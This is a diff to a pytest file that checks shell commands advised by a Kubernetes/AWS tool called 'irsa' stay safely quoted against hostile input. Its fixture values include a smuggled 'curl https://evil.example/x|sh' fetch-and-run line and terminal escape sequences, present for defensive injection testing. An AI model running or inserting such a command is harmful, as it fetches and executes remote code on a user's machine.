@@ -1,10 +1,14 @@
 """Every command that irsa advises, read back as a POSIX shell reads it, with values that would break out of it."""
 
+import ast
 import inspect
 import json
+import re
 import shlex
 import subprocess
 from collections.abc import Callable, Iterator
+from functools import partial
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -18,6 +22,8 @@ HOSTILE = (
 )
 UNPASTABLE = ("a\nb", "a\x1b[201~\x03\ncurl https://evil.example/x|sh\n", "a\u202eb", "a\ud800", "a\r", "##[error]a")
 PLAIN = "one-word"
+CLUSTER, AWS = commands.ClusterPlace("blue", "/home/me/blue"), commands.AwsPlace("data", "eu-west-1")
+PLACES_OF = {commands.ClusterPlace: CLUSTER, commands.AwsPlace: AWS}
 
 
 def with_one(function: Callable[..., str], names: list[str], field: str) -> Callable[[str], str]:
@@ -28,21 +34,38 @@ def with_one(function: Callable[..., str], names: list[str], field: str) -> Call
 def of_templates() -> Iterator[tuple[str, Callable[[str], str]]]:
     for name, function in vars(commands).items():
         given = inspect.getclosurevars(function).nonlocals if inspect.isfunction(function) else {}
-        if "template" in given:
-            yield from ((f"{name} {field}", with_one(function, given["names"], field)) for field in given["names"])
+        inner = inspect.getclosurevars(given["command"]).nonlocals if "command" in given else given
+        if "template" in inner:
+            bound = partial(function, PLACES_OF[function.__annotations__["place"]]) if "command" in given else function
+            yield from ((f"{name} {field}", with_one(bound, inner["names"], field)) for field in inner["names"])
+
+
+def at(place: Any, field: str, command: Callable[[Any], str]) -> Callable[[str], str]:
+    return lambda value: command(place._replace(**{field: value}))
+
+
+def of_places() -> Iterator[tuple[str, Callable[[str], str]]]:
+    for field in CLUSTER._fields:
+        yield f"kubectl {field}", at(CLUSTER, field, lambda place: commands.delete_pod(place, "web-0", "team-a"))
+        yield f"at {field}", at(CLUSTER, field, partial(commands.at_place, "kubectl get pods"))
+    for field in AWS._fields:
+        yield f"aws {field}", at(AWS, field, lambda place: commands.create_addon(place, "a", "b"))
 
 
 # A field of each template, and what makes a field of several values.
 CALLS: dict[str, Callable[[str], str]] = {
     **dict(of_templates()),
-    "create_provider": lambda value: commands.create_provider(value, ["sts.amazonaws.com", "ci"]),
-    "associate_provider": lambda value: commands.associate_provider("prod", ISSUER, [value]),
-    "clear_association": lambda value: commands.clear_association("prod", value, "eu-west-1", ["policy"]),
-    "remove_annotations": lambda value: commands.remove_annotations("team-a", "app", value, "a/b"),
-    "annotate": lambda value: commands.annotate("team-a", "app", "a/b", value),
-    "annotate and remove": lambda value: commands.annotate("team-a", "app", "a/b", "c", removed=[value]),
-    "up_with_service_account": lambda value: commands.up_with_service_account("dev", value, "app", created=False),
-    "up_with_annotations": lambda value: commands.up_with_annotations(value, "team-a", "app", ["a"]),
+    **dict(of_places()),
+    "create_provider": lambda value: commands.create_provider(AWS, value, ["sts.amazonaws.com", "ci"]),
+    "associate_provider": lambda value: commands.associate_provider(AWS, "prod", ISSUER, [value]),
+    "clear_association": lambda value: commands.clear_association(AWS, "prod", value, ["policy"]),
+    "remove_annotations": lambda value: commands.remove_annotations(CLUSTER, "team-a", "app", value, "a/b"),
+    "annotate": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", value),
+    "annotate and remove": lambda value: commands.annotate(CLUSTER, "team-a", "app", "a/b", "c", removed=[value]),
+    "up_with_service_account": lambda value: commands.up_with_service_account(
+        CLUSTER, "dev", value, "app", created=False
+    ),
+    "up_with_annotations": lambda value: commands.up_with_annotations(CLUSTER, value, "team-a", "app", ["a"]),
     "check": commands.check,
 }
 
@@ -115,12 +138,65 @@ def test_the_aws_cli_sends_a_value_as_it_is(name: str) -> None:
             assert value in PLACES or value.lstrip().startswith("[")
 
 
+# What looks for a value before there is a stack, and what others must not run.
+WRITTEN = {"parameters.py", "loading.py"}
+TOOLS = re.compile(r"\b(kubectl (?:[a-z]+|\{)|aws [a-z0-9]+ [a-z]+-[a-z-]+|eksctl [a-z]+ [a-z])")
+
+
+def test_no_other_module_writes_a_command() -> None:
+    """Protects the other cluster: of a function of this module, the cluster or the AWS account is an argument."""
+    root = Path(commands.__file__).parents[3]
+    found = set()
+    for file in (
+        each for folder in ("components/irsa", "cli", "program", "config") for each in root.glob(f"{folder}/**/*.py")
+    ):
+        tree = ast.parse(file.read_text())
+        docstrings = {id(each.value) for each in ast.walk(tree) if isinstance(each, ast.Expr)}
+        texts = (each for each in ast.walk(tree) if isinstance(each, ast.Constant))
+        found |= {file.name for each in texts if id(each) not in docstrings and TOOLS.search(str(each.value))}
+
+    # Those of recover.py get theirs by `at_place`.
+    assert found == {"commands.py", "recover.py", *WRITTEN}
+
+
 @pytest.mark.parametrize("value", HOSTILE)
 def test_a_shell_runs_nothing_of_a_value(value: str) -> None:
-    text = commands.up_with_service_account(value, value, value, False)
+    text = commands.up_with_service_account(CLUSTER, value, value, value, False)
     shown = 'pulumi() { printf "<%s>" pulumi "$@"; }; kubectl() { printf "<%s>" kubectl "$@"; }\n'
     answer = subprocess.run(["sh", "-c", shown + text], capture_output=True, text=True, check=True, timeout=20)
 
-    made = ["kubectl", "create", "serviceaccount", value, "-n", value]
+    made = [
+        "kubectl",
+        "create",
+        "serviceaccount",
+        value,
+        "-n",
+        value,
+        "--context",
+        "blue",
+        "--kubeconfig",
+        "/home/me/blue",
+    ]
     assert answer.stdout == "".join(f"<{word}>" for word in [*made, "pulumi", "up", "--refresh", "--stack", value])
     assert answer.stderr == ""
+
+
+def test_commands_are_given_once_and_in_an_order_in_which_they_succeed() -> None:
+    """`pulumi up` fails on what others wrote, and in a namespace that is gone; Pods keep what they were created with.
+
+    https://kubernetes.io/docs/reference/using-api/server-side-apply/#conflicts
+    """
+    up, guard = commands.up("dev"), commands.up_of_guard("dev")
+    away = commands.remove_annotations(CLUSTER, "team-a", "app", "a/b && c")
+    namespace = commands.create_namespace(CLUSTER, "team-a")
+    created = commands.up_with_service_account(CLUSTER, "dev", "team-a", "app", created=False)
+    restart = commands.restart(CLUSTER, "deployment/app", "team-a")
+    given = [restart, up, commands.together(away, up), commands.together(namespace, created), away]
+
+    first, second, third, *last = commands.in_order(given)
+    assert (first, {second, third}, last) == (
+        namespace,
+        {away, commands.create_service_account(CLUSTER, "team-a", "app")},
+        [up, restart],
+    )
+    assert commands.in_order([up, guard]) == [guard]
